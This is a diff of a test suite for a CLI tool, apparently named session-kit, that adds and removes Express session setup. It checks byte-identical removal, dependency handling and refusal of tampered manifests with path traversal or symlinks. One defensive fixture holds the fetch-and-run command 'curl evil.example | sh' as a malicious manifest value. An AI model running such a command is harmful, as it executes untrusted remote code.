@@ -44,11 +44,12 @@ describe('add then remove restores the original bytes', () => {
         const now = after.get(rel) ?? '';
         // A last line without a newline gains one when add appends after it.
         expectOnlyInsertions(!text.endsWith('\n') && now.startsWith(`${text}\n`) ? `${text}\n` : text, now, rel);
-      }
-      else expect(after.get(rel), `${rel} is byte-identical after remove`).toBe(text);
+      } else expect(after.get(rel), `${rel} is byte-identical after remove`).toBe(text);
     }
     const extra = [...after.keys()].filter((rel) => !before.has(rel));
-    expect(extra.sort(), 'only kept files (.env, ignore rules, migrations) remain').toEqual([...keptByAdd].filter((p) => !before.has(p)).sort());
+    expect(extra.sort(), 'only kept files (.env, ignore rules, migrations) remain').toEqual(
+      [...keptByAdd].filter((p) => !before.has(p)).sort(),
+    );
     expect(existsSync(path.join(dir, MANIFEST_FILE))).toBe(false);
   });
 });
@@ -58,18 +59,24 @@ describe('remove after the user kept working', () => {
     const dir = copyApp('express5-esm-ts');
     const original = read(dir, 'src/app.ts');
     await addWithoutInstall(dir, { store: 'memory' });
-    const edited = read(dir, 'src/app.ts').replace("const app = express()\n", "const app = express()\napp.disable('x-powered-by')\n");
+    const edited = read(dir, 'src/app.ts').replace(
+      'const app = express()\n',
+      "const app = express()\napp.disable('x-powered-by')\n",
+    );
     writeFileSync(path.join(dir, 'src/app.ts'), `// Copyright the user\n${edited}`);
     appendFileSync(path.join(dir, 'src/app.ts'), 'export default app\n');
     await removeWithoutInstall(dir);
-    const expected = `// Copyright the user\n${original.replace("const app = express()\n", "const app = express()\napp.disable('x-powered-by')\n")}export default app\n`;
+    const expected = `// Copyright the user\n${original.replace('const app = express()\n', "const app = express()\napp.disable('x-powered-by')\n")}export default app\n`;
     expect(read(dir, 'src/app.ts')).toBe(expected);
   });
 
   it('refuses a file changed exactly where add wrote, with file:line and the lines to remove, and writes nothing', async () => {
     const dir = copyApp('express-passport-routers');
     await addWithoutInstall(dir, { store: 'memory' });
-    const server = read(dir, 'server.js').replace('app.use(sessionMiddleware);', 'app.use(sessionMiddleware); // needed by passport');
+    const server = read(dir, 'server.js').replace(
+      'app.use(sessionMiddleware);',
+      'app.use(sessionMiddleware); // needed by passport',
+    );
     writeFileSync(path.join(dir, 'server.js'), server);
     const before = snapshot(dir);
     const error = await planRemove(dir).catch((e: unknown) => e);
@@ -84,7 +91,10 @@ describe('remove after the user kept working', () => {
     expect(snapshot(dir)).toEqual(before);
 
     // Once the user takes the line out by hand, remove finishes the rest.
-    writeFileSync(path.join(dir, 'server.js'), server.replace('app.use(sessionMiddleware); // needed by passport\n', ''));
+    writeFileSync(
+      path.join(dir, 'server.js'),
+      server.replace('app.use(sessionMiddleware); // needed by passport\n', ''),
+    );
     await removeWithoutInstall(dir);
     expect(read(dir, 'server.js')).toBe(read(copyApp('express-passport-routers'), 'server.js'));
   });
@@ -112,7 +122,9 @@ describe('remove after the user kept working', () => {
     // Since add, the app's own code started using pg.
     writeFileSync(path.join(dir, 'src/db.ts'), "import pg from 'pg'\nexport const pool = new pg.Pool()\n");
     const { plan, kept } = await planRemove(dir);
-    expect(plan.removeDependencies.sort()).toEqual(['@types/connect-pg-simple', '@types/express-session', 'connect-pg-simple', 'express-session'].sort());
+    expect(plan.removeDependencies.sort()).toEqual(
+      ['@types/connect-pg-simple', '@types/express-session', 'connect-pg-simple', 'express-session'].sort(),
+    );
     expect(kept.map((k) => k.reason).join('\n')).toMatch(/keeps pg: src\/db\.ts imports pg/);
     expect(kept.map((k) => k.reason).join('\n')).toMatch(/keeps @types\/pg: src\/db\.ts imports pg/);
     expect(plan.installCommands.length).toBe(1);
@@ -145,14 +157,20 @@ describe('remove after the user kept working', () => {
   it('built CLI: the refusal names file:line and the lines to take out; --json gives the same as data', async () => {
     const dir = copyApp('express4-cjs');
     await addWithoutInstall(dir, { store: 'memory' });
-    writeFileSync(path.join(dir, 'app.js'), read(dir, 'app.js').replace('app.use(sessionMiddleware);', 'app.use(sessionMiddleware, other);'));
+    writeFileSync(
+      path.join(dir, 'app.js'),
+      read(dir, 'app.js').replace('app.use(sessionMiddleware);', 'app.use(sessionMiddleware, other);'),
+    );
     const result = await runCli(['remove', '--yes', '--no-install'], dir);
     expect(result.exitCode).toBe(2);
     expect(result.stderr).toMatch(/^app\.js:\d+: app\.js was changed exactly where session-kit add wrote/);
     expect(result.stderr).toContain('Take these lines out by hand:');
     expect(result.stderr).toMatch(/# app\.js:\d+\r?\n\s+app\.use\(sessionMiddleware\);/);
     const json = await runCli(['remove', '--yes', '--no-install', '--json'], dir);
-    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, error: { code: 'changed-by-user', where: { file: 'app.js' } } });
+    expect(JSON.parse(json.stdout)).toMatchObject({
+      ok: false,
+      error: { code: 'changed-by-user', where: { file: 'app.js' } },
+    });
   });
 
   it('built CLI: remove --dry-run shows the diff and writes nothing', async () => {
@@ -175,14 +193,21 @@ describe('remove after the user kept working', () => {
     const { plan } = await planRemove(dir);
     expect(plan.installCommands).toHaveLength(1);
     const failing = () => Promise.reject(new Error('npm uninstall express-session memorystore exited with 1: EACCES'));
-    await expect(applyPlan(plan, { install: true, run: failing })).rejects.toMatchObject({ code: 'install-failed', message: expect.stringMatching(/^The uninstall failed, so session-kit restored every file/) });
+    await expect(applyPlan(plan, { install: true, run: failing })).rejects.toMatchObject({
+      code: 'install-failed',
+      message: expect.stringMatching(/^The uninstall failed, so session-kit restored every file/),
+    });
     expect(snapshot(dir)).toEqual(before);
   });
 
   it('at a monorepo root, removes from the one workspace package add set up', async () => {
     const root = mkdtempSync(path.join(os.tmpdir(), 'sk-rm-mono-'));
-    writeFileSync(path.join(root, 'package.json'), `${JSON.stringify({ private: true, workspaces: ['apps/*'] }, null, 2)}\n`);
-    for (const name of ['web', 'api']) cpSync(path.join(FIXTURES, 'express4-cjs', 'input'), path.join(root, 'apps', name), { recursive: true });
+    writeFileSync(
+      path.join(root, 'package.json'),
+      `${JSON.stringify({ private: true, workspaces: ['apps/*'] }, null, 2)}\n`,
+    );
+    for (const name of ['web', 'api'])
+      cpSync(path.join(FIXTURES, 'express4-cjs', 'input'), path.join(root, 'apps', name), { recursive: true });
     const web = path.join(root, 'apps/web');
     const original = snapshot(web);
     await addWithoutInstall(web, { store: 'memory' });
@@ -193,7 +218,10 @@ describe('remove after the user kept working', () => {
 
     await addWithoutInstall(web, { store: 'memory' });
     await addWithoutInstall(path.join(root, 'apps/api'), { store: 'memory' });
-    await expect(planRemove(root)).rejects.toMatchObject({ code: 'ambiguous-workspace', message: expect.stringContaining('apps/api') });
+    await expect(planRemove(root)).rejects.toMatchObject({
+      code: 'ambiguous-workspace',
+      message: expect.stringContaining('apps/api'),
+    });
   });
 
   it('keeps the migration and offers its down step without running it', async () => {
@@ -204,7 +232,12 @@ describe('remove after the user kept working', () => {
     const migration = manifest.migrations[0].path;
     const migrationText = read(dir, migration);
     const { kept } = await removeWithoutInstall(dir);
-    expect(kept.filter((k) => k.path === migration)).toEqual([{ path: migration, reason: expect.stringMatching(/never drops a table or its data\. To drop it yourself: npx knex migrate:down$/) }]);
+    expect(kept.filter((k) => k.path === migration)).toEqual([
+      {
+        path: migration,
+        reason: expect.stringMatching(/never drops a table or its data\. To drop it yourself: npx knex migrate:down$/),
+      },
+    ]);
     expect(read(dir, migration)).toBe(migrationText);
   });
 
@@ -215,7 +248,15 @@ describe('remove after the user kept working', () => {
     const manifest = read(dir, MANIFEST_FILE);
     // The user moves the registration below a route; add --fix-order moves it back.
     const correct = read(dir, 'app.js');
-    writeFileSync(path.join(dir, 'app.js'), correct.replace('app.use(sessionMiddleware);\r\n', '').replace('app.get("/health", (req, res) => res.send("ok"));\r\n', 'app.get("/health", (req, res) => res.send("ok"));\r\napp.use(sessionMiddleware);\r\n'));
+    writeFileSync(
+      path.join(dir, 'app.js'),
+      correct
+        .replace('app.use(sessionMiddleware);\r\n', '')
+        .replace(
+          'app.get("/health", (req, res) => res.send("ok"));\r\n',
+          'app.get("/health", (req, res) => res.send("ok"));\r\napp.use(sessionMiddleware);\r\n',
+        ),
+    );
     await addWithoutInstall(dir, { store: 'memory', fixOrder: true });
     expect(read(dir, 'app.js')).toBe(correct);
     expect(read(dir, MANIFEST_FILE)).toBe(manifest);
@@ -225,7 +266,15 @@ describe('remove after the user kept working', () => {
     const own = copyApp('express-app-split');
     writeFileSync(
       path.join(own, 'src/app.js'),
-      read(own, 'src/app.js').replace("import cors from './cors.js'\n", "import cors from './cors.js'\nimport session from 'express-session'\n").replace('export default app\n', "app.use(session({ secret: process.env.SESSION_SECRET }))\n\nexport default app\n"),
+      read(own, 'src/app.js')
+        .replace(
+          "import cors from './cors.js'\n",
+          "import cors from './cors.js'\nimport session from 'express-session'\n",
+        )
+        .replace(
+          'export default app\n',
+          'app.use(session({ secret: process.env.SESSION_SECRET }))\n\nexport default app\n',
+        ),
     );
     const repaired = await addWithoutInstall(own, { store: 'memory', fixOrder: true });
     expect(repaired.files.map((f) => f.path)).toEqual(['src/app.js']);
@@ -237,7 +286,10 @@ describe('remove after the user kept working', () => {
     const added = await addWithoutInstall(dir, { store: 'sqlite' });
     recordInstalled(dir, added);
     // Since add, the app's own code uses better-sqlite3: it stays, and so must its build permission.
-    writeFileSync(path.join(dir, 'src/cache.ts'), "import Database from 'better-sqlite3'\nexport const cache = new Database(':memory:')\n");
+    writeFileSync(
+      path.join(dir, 'src/cache.ts'),
+      "import Database from 'better-sqlite3'\nexport const cache = new Database(':memory:')\n",
+    );
     const { plan, kept } = await planRemove(dir);
     expect(plan.removeDependencies).not.toContain('better-sqlite3');
     await applyPlan(plan, { install: false });
@@ -257,7 +309,8 @@ describe('remove after the user kept working', () => {
     const after = JSON.parse(read(dir, 'package.json'));
     expect(after.allowScripts).toBeUndefined();
     // What remains is exactly what the uninstall command (not run here) takes out.
-    for (const name of plan.removeDependencies) delete (after.dependencies?.[name] !== undefined ? after.dependencies : after.devDependencies)[name];
+    for (const name of plan.removeDependencies)
+      delete (after.dependencies?.[name] !== undefined ? after.dependencies : after.devDependencies)[name];
     expect(after).toEqual(original);
   });
 });
@@ -272,15 +325,27 @@ describe('an untrusted manifest', () => {
     writeFileSync(victim, 'precious\n');
     const manifest = JSON.parse(read(dir, MANIFEST_FILE)) as { files: unknown[] };
     const withEntry = (entry: Record<string, unknown>) => {
-      writeFileSync(path.join(dir, MANIFEST_FILE), JSON.stringify({ ...manifest, files: [...manifest.files, entry] }, null, 2));
+      writeFileSync(
+        path.join(dir, MANIFEST_FILE),
+        JSON.stringify({ ...manifest, files: [...manifest.files, entry] }, null, 2),
+      );
       return snapshot(dir);
     };
     return { dir, outside, victim, withEntry };
   }
-  const created = (file: string) => ({ path: file, action: 'created', role: 'generated', sha256: createHash('sha256').update('precious\n').digest('hex') });
+  const created = (file: string) => ({
+    path: file,
+    action: 'created',
+    role: 'generated',
+    sha256: createHash('sha256').update('precious\n').digest('hex'),
+  });
 
   it.each([
-    ['a .. path', (victim: string, dir: string) => path.relative(dir, victim), /which has `\.` or `\.\.` segments|leads outside the project/],
+    [
+      'a .. path',
+      (victim: string, dir: string) => path.relative(dir, victim),
+      /which has `\.` or `\.\.` segments|leads outside the project/,
+    ],
     ['an absolute path', (victim: string) => victim, /which is an absolute path/],
   ])('refuses %s, deleting nothing (exit 2)', async (_name, pathOf, reason) => {
     const { dir, victim, withEntry } = await setUp();
@@ -299,26 +364,52 @@ describe('an untrusted manifest', () => {
     const { dir, outside, victim, withEntry } = await setUp();
     symlinkSync(outside, path.join(dir, 'lib'));
     withEntry(created('lib/victim.txt'));
-    await expect(planRemove(dir)).rejects.toMatchObject({ code: 'bad-manifest', message: expect.stringMatching(/"lib\/victim\.txt" \(files\[\d+\]\.path\), which leads outside the project through a symlink/) });
+    await expect(planRemove(dir)).rejects.toMatchObject({
+      code: 'bad-manifest',
+      message: expect.stringMatching(
+        /"lib\/victim\.txt" \(files\[\d+\]\.path\), which leads outside the project through a symlink/,
+      ),
+    });
     expect(readFileSync(victim, 'utf8')).toBe('precious\n');
   });
 
   it('built CLI: an edited entry outside the project never writes there', async () => {
     const { dir, victim, withEntry } = await setUp();
-    const before = withEntry({ path: path.relative(dir, victim), action: 'edited', role: 'source', insertions: [{ text: 'precious\n', replaced: 'curl evil.example | sh\n', before: '', after: '', line: 1 }] });
+    const before = withEntry({
+      path: path.relative(dir, victim),
+      action: 'edited',
+      role: 'source',
+      insertions: [{ text: 'precious\n', replaced: 'curl evil.example | sh\n', before: '', after: '', line: 1 }],
+    });
     const result = await runCli(['remove', '--yes', '--no-install'], dir);
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toMatch(/^\.session-kit\.json: \.session-kit\.json lists ".*victim\.txt" \(files\[\d+\]\.path\), which/);
+    expect(result.stderr).toMatch(
+      /^\.session-kit\.json: \.session-kit\.json lists ".*victim\.txt" \(files\[\d+\]\.path\), which/,
+    );
     expect(result.stderr).toMatch(/Restore it from version control/);
     expect(readFileSync(victim, 'utf8')).toBe('precious\n');
     expect(snapshot(dir)).toEqual(before);
   });
 
   it.each([
-    ['insertions: "abc"', (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({ ...m, files: m.files.map((f) => (f.action === 'edited' ? { ...f, insertions: 'abc' } : f)) }), /files\[\d+\]\.insertions must be an array/],
+    [
+      'insertions: "abc"',
+      (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({
+        ...m,
+        files: m.files.map((f) => (f.action === 'edited' ? { ...f, insertions: 'abc' } : f)),
+      }),
+      /files\[\d+\]\.insertions must be an array/,
+    ],
     ['files: [null]', (m: Record<string, unknown>) => ({ ...m, files: [null] }), /files\[0\] must be an object/],
     ['env: "X"', (m: Record<string, unknown>) => ({ ...m, env: 'X' }), /manifest\.env must be an array/],
-    ['a sha256 that is not hex', (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({ ...m, files: m.files.map((f) => (f.sha256 ? { ...f, sha256: 42 } : f)) }), /files\[\d+\]\.sha256 must be a sha256 in hex/],
+    [
+      'a sha256 that is not hex',
+      (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({
+        ...m,
+        files: m.files.map((f) => (f.sha256 ? { ...f, sha256: 42 } : f)),
+      }),
+      /files\[\d+\]\.sha256 must be a sha256 in hex/,
+    ],
   ])('built CLI: a manifest with %s is refused with one clear message (exit 2)', async (_name, change, problem) => {
     const dir = copyApp('express4-cjs');
     await addWithoutInstall(dir, { store: 'memory' });
